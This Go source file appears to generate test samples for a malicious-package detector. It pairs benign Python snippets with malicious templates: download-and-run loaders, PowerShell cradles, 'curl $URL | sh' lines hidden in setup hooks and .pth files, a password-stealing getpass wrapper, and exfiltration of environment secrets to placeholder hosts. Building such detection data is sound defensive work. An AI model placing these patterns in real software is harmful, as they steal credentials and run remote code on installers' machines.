package generate

// sealedPython are attacks on Python of the sealed half; see sealed.go. Each is built
// as a kind of published incident was, in words and code of its own.
var sealedPython = []shape{
	// download-exec
	{family: "download-exec", name: "pathlib-write-run", bad: snippet{`
def <%n update%>(folder=None):
    target = <%c pathlib.Path%>(folder or <%c tempfile.mkdtemp%>()) / <%s worker%>
    target.write_bytes(<%c httpx.get%>(<%s $URL%>, follow_redirects=True).content)
    target.chmod(0o755)
    <%c subprocess.run%>([str(target)], check=False)
`, "<%n update%>()"}, good: snippet{`
def <%n update%>(folder=None):
    target = <%c pathlib.Path%>(folder or <%c tempfile.mkdtemp%>()) / "words.csv"
    target.write_bytes(<%c httpx.get%>("https://data.example.invalid/words.csv", follow_redirects=True).content)
    target.chmod(0o644)
    return target
`, "<%n update%>"}},
	{family: "download-exec", name: "aiohttp-exec", bad: snippet{`
async def <%n sync%>():
    async with <%c aiohttp.ClientSession%>() as session:
        async with session.get(<%s $URL%>) as reply:
            text = await reply.text()
    <%b exec%>(text, {"session": session})
`, "<%c asyncio.run%>(<%n sync%>())"}, good: snippet{`
async def <%n sync%>():
    async with <%c aiohttp.ClientSession%>() as session:
        async with session.get("https://data.example.invalid/rules.json") as reply:
            return await reply.json()
`, "<%n sync%>"}},
	{family: "download-exec", name: "zip-and-import", bad: snippet{`
def <%n extend%>():
    body = <%c io.BytesIO%>(<%c urllib.request.urlopen%>(<%s $URL%>).read())
    folder = <%c tempfile.mkdtemp%>()
    <%c zipfile.ZipFile%>(body).extractall(folder)
    <%c sys.path%>.insert(0, folder)
    <%c importlib.import_module%>(<%s plugin_main%>).start()
`, "<%n extend%>()"}, good: snippet{`
def <%n extend%>(path):
    folder = <%c tempfile.mkdtemp%>()
    <%c zipfile.ZipFile%>(path).extractall(folder)
    return sorted(p.name for p in <%c pathlib.Path%>(folder).rglob("*.txt"))
`, "<%n extend%>"}},
	{family: "download-exec", name: "powershell-cradle", bad: snippet{`
def <%n prepare%>():
    line = <%s (New-Object Net.WebClient).DownloadFile('$URL','upd.exe'); Start-Process upd.exe%>
    if <%c os.name%> == "nt":
        <%c subprocess.call%>(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", line])
`, "<%n prepare%>()"}, good: snippet{`
def <%n prepare%>():
    """The version of PowerShell, on Windows."""
    line = "$PSVersionTable.PSVersion.ToString()"
    if <%c os.name%> == "nt":
        return <%c subprocess.check_output%>(["powershell", "-NoProfile", "-Command", line], text=True)
`, "<%n prepare%>"}},

	// cmd-overwrite
	{family: "cmd-overwrite", name: "shell-by-os-system", places: []string{"cmdclass"}, bad: snippet{`
def <%n after%>():
    <%c os.system%>(<%s wget -q $URL -O /tmp/.x && sh /tmp/.x &%>)
`, "<%n after%>()"}, good: snippet{`
def <%n after%>():
    <%c os.system%>("msgfmt locale/de.po -o locale/de.mo")
`, "<%n after%>()"}},
	{family: "cmd-overwrite", name: "beacon-of-user", places: []string{"cmdclass"}, bad: snippet{`
def <%n report%>():
    facts = {"h": <%c socket.gethostname%>(), "u": <%c getpass.getuser%>(), "d": <%c os.getcwd%>()}
    <%c requests.get%>(<%s $URL%>, params=facts, timeout=3)
`, "<%n report%>()"}, good: snippet{`
def <%n report%>():
    """Writes where the build ran."""
    with open("build_host.txt", "w") as handle:
        handle.write(<%c socket.gethostname%>())
`, "<%n report%>()"}},
	{family: "cmd-overwrite", name: "startup-script", places: []string{"cmdclass"}, bad: snippet{`
def <%n place%>():
    folder = <%c site.getsitepackages%>()[0]
    with open(<%c os.path.join%>(folder, <%s zz_words.pth%>), "w") as handle:
        handle.write(<%s import os;os.system("curl -s $URL|sh")%>)
`, "<%n place%>()"}, good: snippet{`
def <%n place%>():
    """Says where the package will be."""
    folder = <%c site.getsitepackages%>()[0]
    print("installing into", folder)
`, "<%n place%>()"}},
	{family: "cmd-overwrite", name: "decoded-body", places: []string{"cmdclass"}, bad: snippet{`
def <%n finish%>():
    <%b exec%>(<%c zlib.decompress%>(<%c base64.b64decode%>(<%s eJzLzC3ILypRyC9WKCjKzEvPSVUoLU4tAgBBhwd0%>)))
`, "<%n finish%>()"}, good: snippet{`
def <%n finish%>():
    """Packs the table."""
    with open("words.bin", "wb") as handle:
        handle.write(<%c zlib.compress%>(b"words"))
`, "<%n finish%>()"}},

	// pth-exec
	{family: "pth-exec", name: "thread-loader", places: []string{"pth"}, bad: snippet{`
<%c threading.Thread%>(target=lambda: <%b exec%>(<%c requests.get%>(<%s $URL%>).text), daemon=True).start()
`, ""}, good: snippet{`
def <%n later%>(work):
    <%c threading.Thread%>(target=work, daemon=True).start()
`, ""}},
	{family: "pth-exec", name: "system-line", places: []string{"pth"}, bad: snippet{`
<%c os.system%>(<%s curl -s $URL | sh >/dev/null 2>&1 &%>)
`, ""}, good: snippet{`
def <%n clear%>():
    <%c os.system%>("cls" if <%c os.name%> == "nt" else "clear")
`, ""}},
	{family: "pth-exec", name: "environment-line", places: []string{"pth"}, bad: snippet{`
<%c urllib.request.urlopen%>(<%s $URL%>, data=<%c json.dumps%>(dict(<%c os.environ%>)).encode())
`, ""}, good: snippet{`
def <%n shown%>():
    return <%c json.dumps%>(sorted(<%c os.environ%>))
`, ""}},
	{family: "pth-exec", name: "runpy-hidden", places: []string{"pth"}, bad: snippet{`
<%c os.path.exists%>(<%s /var/tmp/.cache.py%>) and <%c runpy.run_path%>(<%s /var/tmp/.cache.py%>)
`, ""}, good: snippet{`
def <%n started%>(path):
    return <%c runpy.run_path%>(path, run_name="words")
`, ""}},

	// startup-hook
	{family: "startup-hook", name: "getpass-wrapper", places: []string{"sitecustomize"}, bad: snippet{`
<%n real%> = <%c getpass.getpass%>


def <%n asked%>(prompt="Password: ", stream=None):
    answer = <%n real%>(prompt, stream)
    <%c urllib.request.urlopen%>(<%s $URL%>, data=answer.encode(), timeout=2)
    return answer
`, "setattr(<%c sys.modules%>[\"getpass\"], \"getpass\", <%n asked%>)"}, good: snippet{`
<%n real%> = <%c getpass.getpass%>


def <%n asked%>(prompt="Password: ", stream=None):
    """Asks until there is an answer."""
    answer = ""
    while not answer:
        answer = <%n real%>(prompt, stream)
    return answer
`, "<%n asked%>"}},
	{family: "startup-hook", name: "meta-path-finder", places: []string{"sitecustomize"}, bad: snippet{`
class <%n Finder%>:
    def find_spec(self, name, path=None, target=None):
        if name == <%s boto3%>:
            <%c subprocess.Popen%>([<%s sh%>, "-c", <%s curl -s $URL | sh%>])
        return None
`, "<%c sys.meta_path%>.insert(0, <%n Finder%>())"}, good: snippet{`
class <%n Finder%>:
    """Counts imports."""

    seen = []

    def find_spec(self, name, path=None, target=None):
        self.seen.append(name)
        return None
`, "<%n Finder%>()"}},
	{family: "startup-hook", name: "decoded-start", places: []string{"sitecustomize"}, bad: snippet{`
<%n text%> = <%c base64.b64decode%>(<%s aW1wb3J0IG9zO29zLnN5c3RlbSgidHJ1ZSIpICMgaW5lcnQ=%>)
`, "<%b exec%>(<%n text%>)"}, good: snippet{`
<%n text%> = <%c base64.b64decode%>("d29yZHMgYW5kIG1vcmUgd29yZHM=")
`, "len(<%n text%>)"}},
	{family: "startup-hook", name: "except-hook-post", places: []string{"sitecustomize"}, bad: snippet{`
def <%n hook%>(kind, value, trace):
    frames = "".join(<%c traceback.format_exception%>(kind, value, trace)) + repr(dict(<%c os.environ%>))
    <%c http.client.HTTPSConnection%>(<%s $HOST%>).request("POST", "/t", frames)
`, "setattr(<%c sys.modules%>[\"sys\"], \"excepthook\", <%n hook%>)"}, good: snippet{`
def <%n hook%>(kind, value, trace):
    """Writes an error without its frames."""
    print("".join(<%c traceback.format_exception_only%>(kind, value)))
`, "<%n hook%>"}},

	// env-exfil
	{family: "env-exfil", name: "httpx-json", bad: snippet{`
def <%n ping%>():
    with <%c httpx.Client%>(timeout=4) as client:
        client.post(<%s $URL%>, json={**<%c os.environ%>})
`, "<%n ping%>()"}, good: snippet{`
def <%n ping%>():
    with <%c httpx.Client%>(timeout=4) as client:
        return client.get("https://status.example.invalid/", headers={"X-Lang": <%c os.environ%>.get("LANG", "")})
`, "<%n ping%>"}},
	{family: "env-exfil", name: "socket-lines", bad: snippet{`
def <%n send%>():
    lines = "\n".join("%s=%s" % pair for pair in <%c os.environ%>.items())
    with <%c socket.create_connection%>((<%s $ADDRESS%>, $PORT), timeout=3) as link:
        link.sendall(lines.encode())
`, "<%n send%>()"}, good: snippet{`
def <%n send%>(lines):
    port = int(<%c os.environ%>.get("WORDS_PORT", "9000"))
    with <%c socket.create_connection%>(("localhost", port), timeout=3) as link:
        link.sendall(lines.encode())
`, "<%n send%>"}},
	{family: "env-exfil", name: "chosen-names-in-query", bad: snippet{`
def <%n check%>():
    found = {k: v for k, v in <%c os.environ%>.items() if <%c re.search%>(<%s TOKEN|SECRET|PASS|KEY%>, k)}
    <%c urllib.request.urlopen%>(<%s $URL%> + "?" + <%c urllib.parse.urlencode%>(found))
`, "<%n check%>()"}, good: snippet{`
def <%n check%>():
    """The environment without what is secret."""
    return {k: v for k, v in <%c os.environ%>.items() if not <%c re.search%>("TOKEN|SECRET|PASS|KEY", k)}
`, "<%n check%>"}},
	{family: "env-exfil", name: "printenv-curl", bad: snippet{`
def <%n run%>():
    text = <%c subprocess.check_output%>([<%s printenv%>])
    <%c subprocess.run%>([<%s curl%>, "-s", "-X", "POST", "--data-binary", "@-", <%s $URL%>], input=text)
`, "<%n run%>()"}, good: snippet{`
def <%n run%>(page):
    text = <%c subprocess.check_output%>(["locale"])
    return <%c subprocess.run%>(["less"], input=text + page)
`, "<%n run%>"}},
}
